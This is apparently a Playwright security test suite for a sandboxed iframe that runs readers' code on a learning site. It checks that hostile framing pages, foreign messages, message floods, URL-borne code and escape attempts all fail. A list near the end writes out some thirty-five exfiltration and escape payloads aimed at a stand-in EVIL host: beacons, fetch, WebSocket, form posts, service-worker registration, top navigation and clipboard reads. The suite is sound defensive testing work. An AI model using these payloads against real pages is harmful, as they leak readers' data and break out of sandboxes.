// The frame in the wrong hands, and code that got into its document: security.md F5, H1–H8 and D1–D30.
import { expect, test, type Frame, type Page } from 'playwright/test';
import { fixture } from '../../support/sites.ts';
import { hostileServer, type HostileServer } from './hostile-server.ts';
import { LABS, openLabs, runCode } from './lab-page.ts';

const FRAME = fixture('/sandbox/frame.html');

let evil: HostileServer;
test.beforeEach(async () => {
  evil = await hostileServer('localhost');
});
test.afterEach(() => evil.close());

/** A page of another site that frames ours, sends it code, and keeps what it hears. */
function framing(sandbox: string, ports = 1): string {
  return `<!doctype html><body><script>
window.heard = [];
const frame = document.createElement('iframe');
${sandbox === '' ? '' : `frame.setAttribute('sandbox', '${sandbox}');`}
frame.onload = () => {
  for (let n = 0; n < ${ports}; n++) {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => heard.push(n + data);
    const script = '__lab.here(new Error());__lab.module("main.ts",async()=>{console.log("ran in",location?.origin)});';
    frame.contentWindow.postMessage({ script, files: {}, libraries: [] }, '*', [port2]);
  }
};
frame.src = '${FRAME}';
document.body.append(frame);
</script>`;
}

async function heard(page: Page, url: string): Promise<string[]> {
  await page.goto(url);
  // Long enough for a run: the control case below hears its answer well before.
  await page.waitForTimeout(1500);
  return page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard);
}

test('control: the server counts what gets through, and a sandboxed foreign frame is heard', async ({
  page,
}) => {
  await fetch(`${evil.origin}/control`);
  await page.goto(evil.page('/open', ''));
  await page.evaluate(attempt('add("img", { src: EVIL })', `${evil.origin}/d`));
  await expect.poll(() => evil.hits).toEqual(['/control', '/d']);
  const answers = await heard(page, evil.page('/h0', framing('allow-scripts')));
  expect(answers.join()).toContain('"say":"ready"');
});

test('H1, H2: framed without a sandbox, or with our origin, the frame stays silent', async ({
  page,
}) => {
  expect(await heard(page, evil.page('/h1', framing('')))).toEqual([]);
  const same = framing('allow-scripts allow-same-origin');
  expect(await heard(page, evil.page('/h2', same))).toEqual([]);
});

test('H3: opened alone, the frame stays silent', async ({ page }) => {
  await page.goto(FRAME);
  const answers = await page.evaluate(async () => {
    const said: unknown[] = [];
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => said.push(data);
    postMessage({ script: '', files: {}, libraries: [] }, '*', [port2]);
    await new Promise((next) => setTimeout(next, 500));
    return said;
  });
  expect(answers).toEqual([]);
  expect(page.workers()).toHaveLength(0);
});

test('H4: a second start with another port is ignored', async ({ page }) => {
  const answers = await heard(page, evil.page('/h4', framing('allow-scripts', 2)));
  expect(answers.filter((answer) => answer.startsWith('0'))).not.toEqual([]);
  expect(answers.filter((answer) => answer.startsWith('1'))).toEqual([]);
});

test('H5: a message that is not from the frame’s own page is ignored', async ({ page }) => {
  const sibling = evil.page(
    '/h5-sibling',
    `<script>
const { port1, port2 } = new MessageChannel();
port1.onmessage = ({ data }) => parent.postMessage(data, '*');
parent.frames[0].postMessage({ script: '', files: {}, libraries: [] }, '*', [port2]);
</script>`,
  );
  await page.goto(
    evil.page(
      '/h5',
      `<body><script>
window.heard = [];
onmessage = ({ data }) => heard.push(data);
const frame = document.createElement('iframe');
frame.setAttribute('sandbox', 'allow-scripts');
frame.src = '${FRAME}';
frame.onload = () => {
  const other = document.createElement('iframe');
  other.src = '${sibling}';
  document.body.append(other);
};
document.body.append(frame);
</script>`,
    ),
  );
  await page.waitForTimeout(1000);
  expect(await page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard)).toEqual(
    [],
  );
});

test('H6, D30: a storm of messages at the page changes nothing and holds nothing up', async ({
  page,
}) => {
  await openLabs(page);
  const before = await page.evaluate(() => JSON.stringify(Object.entries(localStorage)));
  const frame = await emptyFrame(page);
  await frame.evaluate(() => {
    const message = { type: 'progress', level: 8, score: 1, say: 'end', end: 'done' };
    for (let n = 0; n < 100_000; n++) parent.postMessage(message, '*');
  });
  const { state, output } = await runCode(page, `console.log('still here');`);
  expect([state, output]).toEqual(['done', 'still here\n']);
  const after = await page.evaluate(() =>
    Object.entries(localStorage).filter(([key]) => !/lab:alpha-sums|progress|device/.test(key)),
  );
  expect(before).toBe('[]');
  expect(after).toEqual([]);
});

test('H7: framed by another site, a lab shows and resets nothing of the reader’s', async ({
  page,
}) => {
  await openLabs(page);
  await runCode(page, `console.log('my edit');`);
  const edits = () => page.evaluate(() => localStorage.getItem('eight-levels:lab:alpha-sums'));
  const mine = await edits();
  expect(mine).toContain('my edit');
  await page.goto(evil.page('/h7', `<iframe src="${LABS}" width="1200" height="900"></iframe>`));
  const framed = page.frameLocator('iframe').locator('#alpha-sums');
  await expect(framed.getByRole('button', { name: 'Run', exact: true })).toBeVisible();
  await expect(framed).not.toHaveAttribute('data-edited');
  await framed.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(framed).toHaveAttribute('data-state', 'done');
  await framed.getByRole('button', { name: 'Reset code', exact: true }).click();
  await page.goto(LABS);
  expect(await edits()).toBe(mine);
});

test('H8: code in an address is not run', async ({ page }) => {
  await page.goto(`${LABS}#code=${encodeURIComponent(`fetch('${evil.origin}/h8')`)}`);
  await page.waitForTimeout(500);
  await expect(page.locator('#alpha-sums')).toHaveAttribute('data-state', 'idle');
  expect(await page.locator('iframe').count()).toBe(0);
  expect(evil.hits).toEqual([]);
});

/** What code in the frame's own document could try, if the worker were not there. */
const DOCUMENT: readonly string[] = [
  `new Image().src = EVIL`,
  `navigator.sendBeacon(EVIL, 'x')`,
  `document.body.style.background = 'url(' + EVIL + ')'`,
  `add('style', { textContent: '@import "' + EVIL + '"' })`,
  `add('style', { textContent: '@font-face{font-family:x;src:url(' + EVIL + ')} body{font-family:x}' })`,
  ...['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'stylesheet'].map(
    (rel) => `add('link', { rel: '${rel}', href: EVIL, as: 'script' })`,
  ),
  `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [EVIL] }] }) })`,
  `add('script', { src: EVIL })`,
  `add('iframe', { src: EVIL })`,
  `add('iframe', { srcdoc: '<img src="' + EVIL + '">' })`,
  `add('object', { data: EVIL })`,
  `add('video', { src: EVIL })`,
  `add('a', { href: EVIL, ping: EVIL, target: '_blank' }).click()`,
  `add('a', { href: EVIL, target: '_top' }).click()`,
  `add('a', { href: 'data:text/plain,x', download: 'x.txt' }).click()`,
  `{ const form = add('form', { action: EVIL, method: 'post' }); form.submit() }`,
  `window.open(EVIL)`,
  `top.location = EVIL`,
  `alert(1)`,
  `confirm(1)`,
  `prompt(1)`,
  `print()`,
  `localStorage.setItem('x', 'x')`,
  `document.cookie = 'x=x'`,
  `parent.document.title`,
  `parent.location.hash = 'x'`,
  `navigator.serviceWorker.register(EVIL)`,
  `document.body.requestFullscreen()`,
  `navigator.clipboard.readText()`,
  `add('input', { autofocus: true }).focus()`,
  `fetch(EVIL)`,
  `new WebSocket(EVIL.replace('http', 'ws'))`,
  // These leave the document, so they come last, each in a frame of its own.
  `location.href = EVIL`,
  `add('meta', { httpEquiv: 'refresh', content: '0;url=' + EVIL })`,
  `add('a', { href: EVIL }).click()`,
];

test('D1–D28: not even the frame’s document reaches anything', async ({ page, context }) => {
  const incidents: string[] = [];
  page.on('download', () => incidents.push('download'));
  page.on('dialog', (dialog) => {
    incidents.push(dialog.message());
    void dialog.dismiss();
  });
  await openLabs(page);
  await page.locator('#alpha-sums').getByRole('button', { name: 'Run', exact: true }).focus();
  for (const code of DOCUMENT) {
    const frame = await emptyFrame(page);
    await frame.evaluate(attempt(code, `${evil.origin}/d`)).catch(() => 'left');
    await page.waitForTimeout(30);
    const focused = await page.evaluate(() => document.activeElement?.tagName);
    expect.soft([page.url(), focused], code).toEqual([LABS, 'BUTTON']);
    await page.evaluate(() => document.querySelector('iframe')?.remove());
  }
  await page.waitForTimeout(500);
  expect(evil.hits).toEqual([]);
  expect(incidents).toEqual([]);
  expect(context.pages()).toHaveLength(1);
});

/** An attempt as a script. The browser's debugger runs it, for which the frame's policy does not count. */
function attempt(code: string, url: string): string {
  return `{
  const EVIL = ${JSON.stringify(url)};
  const add = (tag, fields) => {
    const element = Object.assign(document.createElement(tag), fields);
    document.body.append(element);
    return element;
  };
  try { ${code} } catch (error) { String(error) }
}`;
}

/** A frame as a run has it, made by the page's own code and left empty. */
async function emptyFrame(page: Page): Promise<Frame> {
  await page.evaluate((src) => {
    document.querySelector('iframe')?.remove();
    return new Promise((loaded) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.hidden = true;
      frame.inert = true;
      frame.onload = loaded;
      frame.src = src;
      document.body.append(frame);
    });
  }, FRAME);
  const frame = page.frames().find((one) => one.url() === FRAME);
  if (frame === undefined) throw new Error('there is no frame');
  return frame;
}
